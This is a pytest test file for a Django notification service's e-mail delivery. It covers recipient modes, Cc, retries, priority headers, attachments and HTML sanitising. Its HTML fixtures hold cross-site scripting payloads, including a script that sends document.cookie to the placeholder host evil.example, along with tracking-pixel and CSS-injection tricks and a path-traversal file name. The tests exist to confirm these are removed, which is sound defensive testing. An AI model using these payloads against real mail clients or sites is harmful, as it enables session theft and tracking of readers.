"""What list members receive, parsed from a real SMTP server on loopback: recipient modes
(bcc, individual, to), Cc and Reply-To, priority, sanitised HTML beside the plain body, and
attachments (docs/api.md, "type_data for email"; docs/architecture.md, "How an email is composed")."""

import base64
import os
import re

import pytest
from django.utils import timezone

from notifications.adapters.email_compose import html_sanitise
from notifications.models import EmailRecipient, Notification, NotificationList
from tests.dispatch.conftest import fresh, queue, run_pass

Status = Notification.Status
MEMBERS = ["ada@example.com", "bo@example.com", "cy@example.com"]
SCRIPTED_HTML = (
    '<h1 onclick="steal()">Pump 3 tripped</h1>'
    "<script>document.location='https://evil.example/'+document.cookie</script>"
    '<table style="border-collapse:collapse"><tr><td style="color:red">Overcurrent</td>'
    '<td><a href="javascript:alert(1)">acknowledge</a> <a href="https://plant.example/pump3">trend</a></td></tr></table>'
    '<img src="https://plant.example/chart.png" onerror="alert(2)">'
    "<iframe src='https://evil.example/'></iframe>"
)


@pytest.fixture
def crew(db):
    """A list of three members in bcc mode (the default)."""
    crew = NotificationList.objects.create(name="Crew")
    for address in MEMBERS:
        EmailRecipient.objects.create(notification_list=crew, email=address)
    return crew


def all_headers(message):
    """Every header of the message and of each of its parts, as (name, value) pairs."""
    return [(name, str(value)) for part in message.walk() for name, value in part.items()]


def members_named_in_headers(message, members=MEMBERS):
    """Members whose address stands in a header as an address of its own (not as the tail of
    another token: a Message-ID such as <…-3ada@example.com> names no member)."""
    text = "\n".join(f"{name}: {value}" for name, value in all_headers(message)).lower()
    return [member for member in members if re.search(rf"(?<![\w.+-]){re.escape(member)}", text)]


def plain_text(message):
    """The text/plain part's text as sent: line ends as LF, without the one that ends the part."""
    return message.get_body(preferencelist=("plain",)).get_content().replace("\r\n", "\n").removesuffix("\n")


def test_a_list_is_bcc_unless_set_otherwise(db):
    assert NotificationList.objects.create(name="New").recipient_mode == NotificationList.RecipientMode.BCC


def test_bcc_mode_names_no_member_in_any_header_and_the_envelope_is_exactly_the_members(smtp_server, smtp_config, crew):
    (notification,) = queue(list_name="Crew")
    run_pass()
    assert fresh(notification).status == Status.DELIVERED
    (received,) = smtp_server.received
    assert received.rcpt_tos == MEMBERS
    message = received.message
    assert members_named_in_headers(message) == []
    assert message["To"] == "undisclosed-recipients:;"
    assert message["To"].groups[0].display_name == "undisclosed-recipients"
    assert message["To"].addresses == ()
    assert [t["target"] for t in fresh(notification).resolved_targets] == MEMBERS


def test_to_mode_shows_every_member_in_to(smtp_server, smtp_config, crew):
    crew.recipient_mode = NotificationList.RecipientMode.TO
    crew.save()
    queue(list_name="Crew")
    run_pass()
    (received,) = smtp_server.received
    assert received.rcpt_tos == MEMBERS
    assert [address.addr_spec for address in received.message["To"].addresses] == MEMBERS


def test_individual_mode_sends_each_member_a_message_addressed_to_them_alone(smtp_server, smtp_config, crew):
    crew.recipient_mode = NotificationList.RecipientMode.INDIVIDUAL
    crew.save()
    (notification,) = queue(list_name="Crew", subject="Pump 3 tripped")
    report = run_pass()
    assert report.delivered == 1
    smtp_server.wait_for(3)
    by_recipient = {tuple(r.rcpt_tos): r.message for r in smtp_server.received}
    assert sorted(by_recipient) == [(member,) for member in MEMBERS]
    for (member,), message in by_recipient.items():
        assert [address.addr_spec for address in message["To"].addresses] == [member]
        assert members_named_in_headers(message) == [member]
        assert message["Subject"] == "Pump 3 tripped"
        assert message["X-Notification-Id"] == str(notification.notification_id)
    assert len({message["Message-ID"] for message in by_recipient.values()}) == 3
    notification = fresh(notification)
    assert notification.status == Status.DELIVERED and notification.last_error == ""
    assert notification.resolved_targets == [
        {"target": member, "outcome": "delivered", "smtp_code": 250} for member in MEMBERS
    ]
    (attempt,) = notification.attempts.all()
    assert attempt.detail["recipient_mode"] == "individual" and attempt.detail["messages"] == 3


def test_individual_mode_records_each_members_own_outcome(smtp_server, smtp_config, crew):
    crew.recipient_mode = NotificationList.RecipientMode.INDIVIDUAL
    crew.save()
    smtp_server.behave("refuse", refuse={"bo@example.com"})
    (notification,) = queue(list_name="Crew")
    run_pass()
    assert sorted(r.rcpt_tos[0] for r in smtp_server.received) == ["ada@example.com", "cy@example.com"]
    notification = fresh(notification)
    assert notification.status == Status.DELIVERED
    outcomes = {t["target"]: (t["outcome"], t["smtp_code"]) for t in notification.resolved_targets}
    assert outcomes == {
        "ada@example.com": ("delivered", 250),
        "bo@example.com": ("refused", 550),
        "cy@example.com": ("delivered", 250),
    }
    assert "Delivered to 2 of 3 recipients" in notification.last_error and "bo@example.com" in notification.last_error


def test_individual_mode_retries_only_the_member_deferred_at_data(smtp_server, smtp_config, crew):
    crew.recipient_mode = NotificationList.RecipientMode.INDIVIDUAL
    crew.save()
    smtp_server.behave("4xx", only_for={"ada@example.com"})
    (notification,) = queue(list_name="Crew")
    run_pass()
    notification = fresh(notification)
    outcomes = {t["target"]: (t["outcome"], t["smtp_code"]) for t in notification.resolved_targets}
    assert outcomes == {
        "ada@example.com": ("deferred", 451),
        "bo@example.com": ("delivered", 250),
        "cy@example.com": ("delivered", 250),
    }
    # Delivered only once every member has it or refused it for good.
    assert notification.status == Status.RETRYING
    assert "Delivered to 2 of 3 recipients; 1 still owed it" in notification.last_error

    smtp_server.behave("accept")
    Notification.objects.filter(pk=notification.pk).update(next_attempt_at=timezone.now())
    run_pass()
    notification = fresh(notification)
    assert notification.status == Status.DELIVERED and notification.last_error == ""
    assert {t["outcome"] for t in notification.resolved_targets} == {"delivered"}
    # The retry went to ada alone: bo and cy have exactly one copy each.
    assert sorted(r.rcpt_tos[0] for r in smtp_server.received) == [*MEMBERS]


def test_individual_mode_sends_a_member_whose_answer_was_lost_one_more_copy_later(smtp_server, smtp_config, crew):
    crew.recipient_mode = NotificationList.RecipientMode.INDIVIDUAL
    crew.save()
    smtp_server.behave("drop", only_for={"bo@example.com"})
    (notification,) = queue(list_name="Crew")
    run_pass()
    notification = fresh(notification)
    assert notification.status == Status.RETRYING
    outcomes = {t["target"]: t["outcome"] for t in notification.resolved_targets}
    assert outcomes == {"ada@example.com": "delivered", "bo@example.com": "ambiguous", "cy@example.com": "delivered"}
    assert "may have accepted it" in notification.last_error
    assert notification.attempts.get().outcome == "ambiguous"
    assert sorted(r.rcpt_tos[0] for r in smtp_server.received) == ["ada@example.com", "cy@example.com"]

    smtp_server.behave("accept")
    Notification.objects.filter(pk=notification.pk).update(next_attempt_at=timezone.now())
    run_pass()
    notification = fresh(notification)
    assert notification.status == Status.DELIVERED
    assert "1 recipient(s) may have a second copy" in notification.last_error
    assert sorted(r.rcpt_tos[0] for r in smtp_server.received) == MEMBERS


def test_individual_mode_with_every_member_refused_with_5xx_parks(smtp_server, smtp_config, crew):
    crew.recipient_mode = NotificationList.RecipientMode.INDIVIDUAL
    crew.save()
    smtp_server.behave("refuse", refuse=MEMBERS)
    (notification,) = queue(list_name="Crew")
    run_pass()
    notification = fresh(notification)
    assert notification.status == Status.PARKED
    assert {t["outcome"] for t in notification.resolved_targets} == {"refused"}
    assert smtp_server.count == 0


def test_individual_mode_with_the_server_deferring_everyone_is_retried_whole(smtp_server, smtp_config, crew):
    crew.recipient_mode = NotificationList.RecipientMode.INDIVIDUAL
    crew.save()
    smtp_server.behave("4xx")
    (notification,) = queue(list_name="Crew")
    run_pass()
    notification = fresh(notification)
    assert notification.status == Status.RETRYING
    assert [(t["target"], t["smtp_code"]) for t in notification.resolved_targets] == [(m, 451) for m in MEMBERS]


def test_cc_addresses_are_envelope_recipients_with_their_own_outcomes(smtp_server, smtp_config, crew):
    smtp_server.behave("refuse", refuse={"safety@example.com"})
    (notification,) = queue(list_name="Crew", type_data={"cc": ["chief@example.com", "safety@example.com"]})
    run_pass()
    (received,) = smtp_server.received
    assert received.rcpt_tos == [*MEMBERS, "chief@example.com"]
    message = received.message
    assert [address.addr_spec for address in message["Cc"].addresses] == ["chief@example.com", "safety@example.com"]
    assert members_named_in_headers(message) == []
    targets = {t["target"]: t for t in fresh(notification).resolved_targets}
    assert targets["chief@example.com"] == {
        "target": "chief@example.com",
        "outcome": "delivered",
        "smtp_code": 250,
        "role": "cc",
    }
    assert targets["safety@example.com"]["outcome"] == "refused" and targets["safety@example.com"]["role"] == "cc"
    assert "role" not in targets["ada@example.com"]


def test_individual_mode_sends_the_cc_addresses_one_copy_that_names_no_member(smtp_server, smtp_config, crew):
    crew.recipient_mode = NotificationList.RecipientMode.INDIVIDUAL
    crew.save()
    (notification,) = queue(list_name="Crew", type_data={"cc": "chief@example.com"})
    run_pass()
    smtp_server.wait_for(4)
    (cc_copy,) = [r for r in smtp_server.received if r.rcpt_tos == ["chief@example.com"]]
    assert members_named_in_headers(cc_copy.message) == []
    assert cc_copy.message["To"] == "undisclosed-recipients:;"
    for received in smtp_server.received:
        assert received.message["Cc"] == "chief@example.com"
    assert sorted(r.rcpt_tos[0] for r in smtp_server.received) == sorted([*MEMBERS, "chief@example.com"])
    assert {t["target"]: t.get("role") for t in fresh(notification).resolved_targets}["chief@example.com"] == "cc"


def test_html_is_sanitised_and_sent_as_the_alternative_to_the_plain_body(smtp_server, smtp_config, crew):
    body = "Pump 3 tripped on overcurrent at 10:00.\nAcknowledge in the control room."
    queue(list_name="Crew", body=body, type_data={"html": SCRIPTED_HTML})
    run_pass()
    message = smtp_server.received[0].message
    assert message.get_content_type() == "multipart/alternative"
    assert [part.get_content_type() for part in message.iter_parts()] == ["text/plain", "text/html"]
    assert plain_text(message) == body
    html = message.get_body(preferencelist=("html",)).get_content()
    lowered = html.lower()
    for forbidden in ("<script", "document.cookie", "onclick", "onerror", "javascript:", "<iframe", "evil.example"):
        assert forbidden not in lowered, forbidden
    assert "Pump 3 tripped" in html and "Overcurrent" in html
    assert 'href="https://plant.example/pump3"' in html
    assert 'style="color:red"' in html


PIXEL = "R0lGODlhAQABAAAAACw="  # a 1×1 GIF, base64
FETCHING_HTML = (
    '<p style="color:red">Pump 3 tripped</p>'
    '<img src="https://tracker.example/open.gif?n=1" alt="remote">'
    '<img src="//tracker.example/relative.gif" alt="protocol-relative">'
    '<img src="cid:trend.png" alt="inline">'
    f'<img src="data:image/gif;base64,{PIXEL}" alt="embedded">'
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="svg">'
    '<table background="https://tracker.example/table.png"><tr>'
    '<td style="background-color: url(https://tracker.example/cell.png)">41.5 A</td>'
    '<td style="width: expression(alert(1))">limit</td>'
    '<td style="color: blue; background-color: u\\72l(https://tracker.example/escaped.png)">escaped</td>'
    '<td style="@import url(https://tracker.example/style.css)">import</td>'
    '<td style="color: green">kept</td></tr></table>'
    '<a href="data:text/html,<script>alert(1)</script>" title="data: pump 3">data link</a>'
    '<a href="https://plant.example/pump3">trend</a>'
)


def test_html_loses_everything_a_mail_client_would_fetch_and_keeps_inline_images():
    html = html_sanitise(FETCHING_HTML)
    for fetched in ("tracker.example", "url(", "expression", "@import", "background=", "svg+xml", "data:text"):
        assert fetched not in html, fetched
    assert '<img src="cid:trend.png" alt="inline">' in html
    assert f'<img src="data:image/gif;base64,{PIXEL}" alt="embedded">' in html
    assert '<img alt="remote">' in html and '<img alt="protocol-relative">' in html and '<img alt="svg">' in html
    assert 'style="color:green"' in html and 'style="color:red"' in html
    assert 'href="https://plant.example/pump3"' in html
    assert '<a rel="noopener noreferrer" title="data: pump 3">data link</a>' in html  # text, not a URL: kept


def test_the_html_delivered_to_members_fetches_nothing_from_elsewhere(smtp_server, smtp_config, crew):
    queue(list_name="Crew", type_data={"html": FETCHING_HTML})
    run_pass()
    message = smtp_server.received[0].message
    html = message.get_body(preferencelist=("html",)).get_content()
    assert "tracker.example" not in html and "url(" not in html.lower() and "background=" not in html
    assert 'src="cid:trend.png"' in html and "41.5 A" in html


def test_attachments_arrive_byte_for_byte_under_sanitised_names(smtp_server, smtp_config, crew):
    chart = os.urandom(100 * 1024)
    csv = "time;pressure\n10:00;4,2 bar\n10:01;9,9 bar — über Grenzwert\n".encode()
    wrapped = "\n".join(re.findall(".{1,76}", base64.b64encode(csv).decode()))  # as MIME encoders wrap it
    type_data = {
        "html": "<p>See the chart.</p>",
        "attachments": [
            {"filename": "trend.png", "content_type": "image/png", "content_base64": base64.b64encode(chart).decode()},
            {"filename": "../../logs/Trend ä.csv", "content_type": "Text/CSV", "content_base64": wrapped},
        ],
    }
    body = "Pump 3 tripped; chart and log attached."
    queue(list_name="Crew", body=body, type_data=type_data)
    run_pass()
    message = smtp_server.received[0].message
    assert message.get_content_type() == "multipart/mixed"
    assert plain_text(message) == body
    attachments = list(message.iter_attachments())
    assert [(a.get_filename(), a.get_content_type()) for a in attachments] == [
        ("trend.png", "image/png"),
        ("Trend_ä.csv", "text/csv"),
    ]
    assert attachments[0].get_payload(decode=True) == chart
    assert attachments[1].get_payload(decode=True) == csv


def test_reply_to_and_high_priority_set_their_headers(smtp_server, smtp_config, crew):
    queue(
        list_name="Crew",
        type_data={"reply_to": ["control-room@plant.example", "shift@plant.example"], "priority": "high"},
    )
    run_pass()
    message = smtp_server.received[0].message
    assert [a.addr_spec for a in message["Reply-To"].addresses] == ["control-room@plant.example", "shift@plant.example"]
    assert (message["X-Priority"], message["Importance"]) == ("1 (Highest)", "high")


def test_a_plain_notification_with_a_priority_stays_one_text_part(smtp_server, smtp_config, crew):
    queue(list_name="Crew", body="Check the motor.", type_data={"priority": "low", "site_note": "kept, unused"})
    run_pass()
    message = smtp_server.received[0].message
    assert message.get_content_type() == "text/plain" and not message.is_multipart()
    assert plain_text(message) == "Check the motor."
    assert (message["X-Priority"], message["Importance"]) == ("5 (Lowest)", "low")
    assert message["To"] == "undisclosed-recipients:;"


@pytest.mark.parametrize("priority", ["critical", "high"])
def test_a_high_or_critical_notification_is_marked_urgent_in_every_mail_client_s_header(
    smtp_server, smtp_config, crew, priority
):
    queue(list_name="Crew", priority=priority, type_data={"html": "<p>Gas detector 4 fault</p>"})
    queue(list_name="Crew", priority=priority)
    run_pass()
    assert len(smtp_server.received) == 2  # the rich composer and the plain one alike
    for received in smtp_server.received:
        message = received.message
        assert (message["X-Priority"], message["Importance"], message["Priority"]) == ("1 (Highest)", "high", "urgent")


def test_type_data_priority_counts_only_for_a_normal_notification(smtp_server, smtp_config, crew):
    (marked,) = queue(list_name="Crew", type_data={"priority": "low"})
    (overruled,) = queue(list_name="Crew", priority="critical", type_data={"priority": "low"})
    (low,) = queue(list_name="Crew", priority="low", type_data={"priority": "high"})
    run_pass()
    by_id = {received.message["X-Notification-Id"]: received.message for received in smtp_server.received}
    assert by_id[str(marked.pk)]["Importance"] == "low"
    assert by_id[str(overruled.pk)]["Importance"] == "high"
    assert (by_id[str(low.pk)]["Importance"], by_id[str(low.pk)]["X-Priority"]) == (None, None)


def test_type_data_that_no_longer_passes_the_rules_parks_instead_of_sending_without_it(
    smtp_server, smtp_config, crew, settings
):
    attachment = {"filename": "log.txt", "content_type": "text/plain", "content_base64": "aGVsbG8="}
    (notification,) = queue(list_name="Crew", type_data={"attachments": [attachment]})
    settings.OUTBOX_ATTACHMENT_CONTENT_TYPES = ["application/pdf"]  # narrowed after ingest
    run_pass()
    notification = fresh(notification)
    assert notification.status == Status.PARKED
    assert "type_data.attachments[0].content_type" in notification.last_error
    assert smtp_server.count == 0
